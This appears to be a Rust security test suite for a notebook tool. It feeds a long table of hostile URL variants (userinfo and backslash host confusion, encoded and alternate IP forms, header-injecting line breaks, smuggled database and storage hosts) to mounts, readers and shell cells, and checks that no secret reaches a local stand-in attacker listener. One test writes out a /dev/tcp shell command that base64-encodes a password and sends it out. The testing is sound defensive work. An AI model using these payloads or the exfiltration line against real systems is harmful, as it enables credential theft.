//! Hostile addresses, with references in them, given to whatever can meet an address: at the prompt and headless.
//!
//! Three tables: [`ADDRESSES`], [`SINKS`], what connects to them or could, and [`OTHERS`], what only meets them. Whatever
//! connects to addresses is one more line of the second. Each is tried with each; then the value is nowhere, and nothing
//! of it has reached the host of an attacker, which listens on this machine.

use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::thread;
use std::time::Duration;

use super::scene::{CASE, Case, GET, OTHER, Scene};
use crate::terminal::ENTER;

/// What a question ends with.
const QUESTION: &str = "n: no >";

/// A name and an address, in which `EVIL` is the attacker's host with its port, `PORT` that port, `<p>` a reference that a
/// cell got, and `<o>` one that none got.
type Hostile = (&'static str, &'static str);

/// Addresses that lead to an attacker, or could if a program reads them as another one does. `good.example` and
/// `azure:good` are in the scope's sinks.
const ADDRESSES: &[Hostile] = &[
    ("the attacker's host, plainly", "http://EVIL/?k=<p>"),
    ("with the value as password", "http://me:<p>@EVIL/"),
    ("with the value as user", "http://<p>@EVIL/"),
    ("with the value in the path", "http://EVIL/a/<p>/b.csv"),
    ("with the value behind #", "http://EVIL/#<p>"),
    ("with the value as the name of a parameter", "http://EVIL/?<p>=1"),
    ("the good host as a user", "http://good.example@EVIL/?k=<p>"),
    (
        "the good host and a port as a user",
        "http://good.example:443@EVIL/?k=<p>",
    ),
    (
        "the good host as a user before the value",
        "http://good.example:<p>@EVIL/",
    ),
    ("two marks before the path", "http://a@good.example@EVIL/?k=<p>"),
    ("the good host in the path", "http://EVIL/@good.example?k=<p>"),
    ("the good host in a parameter", "http://EVIL?@good.example&k=<p>"),
    ("the good host behind #", "http://EVIL#@good.example?k=<p>"),
    (
        "a backslash before the good host",
        "http://EVIL\\@good.example/?k=<p>",
    ),
    (
        "a backslash behind the good host",
        "http://good.example\\@EVIL/?k=<p>",
    ),
    (
        "the good host as a beginning",
        "http://good.example.localhost:PORT/?k=<p>",
    ),
    ("a line break", "http://good.example\n@EVIL/?k=<p>"),
    (
        "a line break that begins a header",
        "http://EVIL/ HTTP/1.1\r\nX: <p>",
    ),
    ("a tab", "http://good.example\t@EVIL/?k=<p>"),
    ("a space", "http://good.example @EVIL/?k=<p>"),
    (
        "letters of another script",
        "http://g\u{43e}\u{43e}d.example:PORT/?k=<p>",
    ),
    ("wide digits", "http://\u{ff11}27.0.0.1:PORT/?k=<p>"),
    ("wide dots", "http://127\u{3002}0\u{ff0e}0\u{ff61}1:PORT/?k=<p>"),
    ("a dot at the end", "http://localhost.:PORT/?k=<p>"),
    ("a dot at the end of an address", "http://127.0.0.1.:PORT/?k=<p>"),
    ("capitals", "HTTP://LOCALHOST:PORT/?k=<p>"),
    ("a decimal address", "http://2130706433:PORT/?k=<p>"),
    ("a hexadecimal address", "http://0x7f000001:PORT/?k=<p>"),
    ("an octal address", "http://0177.0.0.1:PORT/?k=<p>"),
    ("a short address", "http://127.1:PORT/?k=<p>"),
    (
        "an address of the other kind",
        "http://[::ffff:127.0.0.1]:PORT/?k=<p>",
    ),
    ("a percent-encoded host", "http://%31%32%37.0.0.1:PORT/?k=<p>"),
    ("a percent-encoded port", "http://127.0.0.1%3aPORT/?k=<p>"),
    (
        "a percent-encoded end of the host",
        "http://127.0.0.1:PORT%2f.good.example/?k=<p>",
    ),
    (
        "a percent-encoded zero byte",
        "http://EVIL%00.good.example/?k=<p>",
    ),
    (
        "a percent-encoded reference",
        "http://EVIL/?k=%7B%7Bsecrets/vault/password%7D%7D",
    ),
    ("two ports", "http://127.0.0.1:PORT:443/?k=<p>"),
    ("a port with zeros", "http://127.0.0.1:00PORT/?k=<p>"),
    ("a port that the value follows", "http://127.0.0.1:PORT<p>/"),
    ("the value as port", "http://127.0.0.1:<p>/"),
    ("the value as host", "http://<p>/"),
    ("the value in the host", "http://<p>.localhost:PORT/"),
    ("the value as the end of the host", "http://localhost.<p>:PORT/"),
    ("the value as scheme", "<p>://EVIL/"),
    ("the value as all of it", "<p>"),
    ("no scheme", "//EVIL/?k=<p>"),
    ("no slashes", "http:EVIL/?k=<p>"),
    ("three slashes", "http:///EVIL/?k=<p>"),
    ("two hosts", "postgresql://me:<p>@good.example,EVIL/db"),
    (
        "a host as a parameter",
        "postgresql://me:<p>@good.example/db?host=EVIL",
    ),
    (
        "a percent-encoded host as a parameter",
        "postgresql://me:<p>@good.example/db?h%6fst=EVIL",
    ),
    (
        "a server as a property",
        "jdbc:sqlserver://good.example;serverName=EVIL;password=<p>",
    ),
    ("the attacker's server", "jdbc:sqlserver://EVIL;password=<p>"),
    (
        "a storage account's host as a beginning",
        "wasbs://data@good.blob.core.windows.net.localhost:PORT/<p>",
    ),
    (
        "a storage account as a container",
        "wasbs://good.blob.core.windows.net@EVIL/?sig=<p>",
    ),
    ("a container that is the value", "wasbs://<p>@EVIL/"),
    (
        "an account that is the value",
        "abfss://data@<p>.dfs.core.windows.net/",
    ),
    ("a bucket that is the value", "s3://<p>/a.csv"),
    ("an object that is called as the value", "s3a://bucket/<p>"),
    (
        "an endpoint as a parameter",
        "s3://bucket/a.csv?endpoint=http://EVIL&secret=<p>",
    ),
    ("a file that is called as the value", "file:///tmp/<p>"),
    ("a proxy", "http://good.example/?k=<p>&proxy=http://EVIL/"),
    ("a secret that no cell got", "http://EVIL/?k=<o>"),
    (
        "a secret that no cell got, at a good host",
        "http://me:<o>@good.example/",
    ),
];

/// What connects to an address, or could, and the cell that gives it one, which is bound to `address`.
const SINKS: &[(&str, &str)] = &[
    ("a reader", "read_csv(address)"),
    (
        "a mount",
        "dbutils.fs.mount(source=address, mount_point=\"/mnt/met\")\ndbutils.fs.ls(\"/mnt/met\")",
    ),
    (
        "a mount with settings",
        "dbutils.fs.mount(address, \"/mnt/set\", extra_configs={\"fs.azure.account.key.good.blob.core.windows.net\": password})\n\
         read_csv(\"/mnt/set/a.csv\")",
    ),
    (
        "an environment",
        "%sh --env ADDRESS=address printf '%s\\n' \"$ADDRESS\"; exit 1",
    ),
];

/// What meets an address otherwise.
const OTHERS: &[(&str, &str)] = &[
    ("a reader that streams", "scan_parquet(address)"),
    (
        "a writer",
        "frame({\"x\": [1]}).write_csv(address, mode=\"overwrite\")",
    ),
    ("a model", "load_model(address)"),
    ("a list", "dbutils.fs.ls(address)"),
    ("a notebook", "dbutils.notebook.run(address, 60)"),
    ("a scope", "dbutils.secrets.get(scope=address, key=\"password\")"),
    ("a text", "print(address)\nfail(address)"),
    ("a query", "sql(\"SELECT * FROM '\" + address + \"'\")"),
];

/// The host of an attacker: it answers, and keeps what it gets.
struct Attacker {
    port: u16,
    got: Arc<Mutex<Vec<u8>>>,
    is_over: Arc<AtomicBool>,
}

impl Attacker {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let attacker = Self {
            port: listener.local_addr().unwrap().port(),
            got: Arc::default(),
            is_over: Arc::default(),
        };
        let (got, is_over) = (Arc::clone(&attacker.got), Arc::clone(&attacker.is_over));
        thread::spawn(move || {
            for stream in listener.incoming() {
                if is_over.load(Ordering::SeqCst) {
                    return;
                }
                let Ok(mut stream) = stream else { continue };
                let _ = stream.set_read_timeout(Some(Duration::from_millis(200)));
                let mut bytes = [0; 4096];
                while let Ok(count @ 1..) = stream.read(&mut bytes) {
                    got.lock().unwrap().extend_from_slice(&bytes[..count]);
                    let _ = stream.write_all(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n");
                }
            }
        });
        attacker
    }

    /// Writes an address as a text of a cell.
    fn address(&self, address: &str) -> String {
        let port = self.port.to_string();
        let address = address
            .replace("EVIL", &format!("127.0.0.1:{port}"))
            .replace("PORT", &port)
            .replace("<p>", "{{secrets/vault/password}}")
            .replace("<o>", "{{secrets/vault/other}}");
        serde_json::to_string(&address).unwrap()
    }

    /// Notes what has reached the attacker of the values.
    fn search(&self, scene: &Scene, leaks: &mut Vec<String>) {
        let got = self.got.lock().unwrap().clone();
        scene.search("what the attacker got", &got, leaks);
        if String::from_utf8_lossy(&got).contains(OTHER) {
            leaks.push("what the attacker got (the value that no cell got)".to_owned());
        }
    }
}

impl Drop for Attacker {
    fn drop(&mut self) {
        self.is_over.store(true, Ordering::SeqCst);
        let _ = std::net::TcpStream::connect(("127.0.0.1", self.port));
    }
}

/// A scope that sends its values to the shell, a good host and a good account.
const SCOPE: Case = Case {
    name: "hostile addresses",
    sinks: &["shell", "good.example", "azure:good"],
    ..CASE
};

/// Each is tried by itself, because a run ends with the first cell that fails.
#[test]
fn headless_no_address_gets_a_value_to_where_it_may_not_go() {
    let (attacker, scene, mut leaks) = (Attacker::start(), Scene::new(&SCOPE), Vec::new());
    for (_, cell) in SINKS {
        for (_, address) in ADDRESSES {
            let address = attacker.address(address);
            let notebook = format!("# %%\n{GET}\n# %%\naddress = {address}\n# %%\n{cell}\n");
            scene.file("a.py", &notebook);
            let ran = scene.sheaf(&["run", "a.py", "--allow-shell", "--record"], &mut leaks);
            assert!(
                ran.status.code().is_some_and(|code| code != 0),
                "{cell} of {address} works"
            );
        }
    }
    scene.search_files(&[], &mut leaks);
    attacker.search(&scene, &mut leaks);
    assert!(leaks.is_empty(), "{}", leaks.join("\n"));
}

/// From a pipe, the next cell runs where one has failed.
#[test]
fn from_a_pipe_no_address_gets_a_value_to_where_it_may_not_go() {
    for (by, cell) in SINKS.iter().chain(OTHERS) {
        let (attacker, scene, mut leaks) = (Attacker::start(), Scene::new(&SCOPE), Vec::new());
        let mut typed = format!("{GET}\n");
        for (_, address) in ADDRESSES {
            let cells = cell.lines().map(|line| format!("{line}\n")).collect::<String>();
            typed += &format!("address = {}\n{cells}", attacker.address(address));
        }
        typed += "print(\"at the end\")\n%save b.py\n%export b.html\n";
        let ran = scene.sheaf_reads(&[], &typed, &mut leaks);
        let shown = String::from_utf8_lossy(&ran.stdout);
        assert!(shown.contains("at the end"), "{by}: {}", scene.safe(&shown));
        scene.search_files(&[], &mut leaks);
        attacker.search(&scene, &mut leaks);
        assert!(leaks.is_empty(), "{by}: {}", leaks.join("\n"));
    }
}

/// A person who is asked says no.
#[test]
fn at_the_prompt_no_address_gets_a_value_to_where_it_may_not_go() {
    for (by, cell) in SINKS {
        let (attacker, scene, mut leaks) = (Attacker::start(), Scene::new(&SCOPE), Vec::new());
        let mut prompt = scene.prompt();
        prompt.paste(GET).send(ENTER).wait_for("[2]");
        for (number, (_, address)) in ADDRESSES.iter().enumerate() {
            let address = attacker.address(address);
            prompt.paste(&format!("address = {address}")).send(ENTER);
            let begun = prompt.history().len();
            prompt.paste(cell).send(ENTER);
            // What is typed before a question is asked is no answer to it.
            prompt.wait_until_written(begun, |shown| shown.contains("error") || shown.contains(QUESTION));
            while !prompt.history()[begun..].contains("error") {
                let asked = prompt.history().len();
                prompt.send("n").send(ENTER);
                prompt.wait_until_written(asked, |shown| shown.contains("error") || shown.contains(QUESTION));
            }
            let marker = format!("after {number}.");
            prompt
                .send(&format!("print(\"after \" + \"{number}.\")\r"))
                .wait_for(&marker);
        }
        for command in ["%save b.py", "%export b.html", "%cells"] {
            prompt.send(&format!("{command}\r"));
        }
        prompt
            .send("print(\"at the \" + \"end.\")\r")
            .wait_for("at the end.");
        scene.search_files(&[], &mut leaks);
        prompt.send("%quit\r%quit\r");
        prompt.wait_exit();
        scene.search("the terminal", prompt.history().as_bytes(), &mut leaks);
        scene.search("the screen", prompt.everything().as_bytes(), &mut leaks);
        scene.search_files(&[], &mut leaks);
        attacker.search(&scene, &mut leaks);
        assert!(leaks.is_empty(), "{by}: {}", leaks.join("\n"));
    }
}

/// An address in a row of data is an address that anybody may have written.
#[test]
fn an_address_from_a_row_of_data_gets_no_value() {
    let (attacker, scene, mut leaks) = (Attacker::start(), Scene::new(&SCOPE), Vec::new());
    let rows: Vec<String> = ADDRESSES
        .iter()
        .map(|(_, address)| attacker.address(address))
        .collect();
    scene.file(
        "datasets/rows.json",
        &format!(
            "[{}]",
            rows.iter()
                .map(|row| format!("{{\"a\": {row}}}"))
                .collect::<Vec<_>>()
                .join(",")
        ),
    );
    let read = "rows = read_json(\"/mnt/data/rows.json\")[\"a\"].to_list()";
    for got in ["", GET] {
        for number in 0..ADDRESSES.len() {
            let cell = format!(
                "dbutils.fs.mount(source=rows[{number}], mount_point=\"/mnt/row\")\ndbutils.fs.ls(\"/mnt/row\")"
            );
            scene.file("a.py", &format!("# %%\n{got}\n# %%\n{read}\n# %%\n{cell}\n"));
            let ran = scene.sheaf(&["run", "a.py"], &mut leaks);
            assert!(
                ran.status.code().is_some_and(|code| code != 0),
                "row {number} works"
            );
        }
    }
    scene.search_files(&[], &mut leaks);
    attacker.search(&scene, &mut leaks);
    assert!(leaks.is_empty(), "{}", leaks.join("\n"));
}

/// The suite would see a value that reaches the attacker.
#[test]
fn a_value_that_reaches_the_attacker_is_found() {
    let (attacker, scene, mut leaks) = (Attacker::start(), Scene::new(&SCOPE), Vec::new());
    let send = format!(
        "%sh --env V=password exec 3<>/dev/tcp/127.0.0.1/{}; printf '%s' \"$V\" | base64 >&3; read -t 1 x <&3",
        attacker.port
    );
    scene.file("a.py", &format!("# %%\n{GET}\n# %%\n{send}\n"));
    scene.sheaf(&["run", "a.py", "--allow-shell"], &mut leaks);
    attacker.search(&scene, &mut leaks);
    assert_eq!(leaks, ["what the attacker got (base64)"]);
}
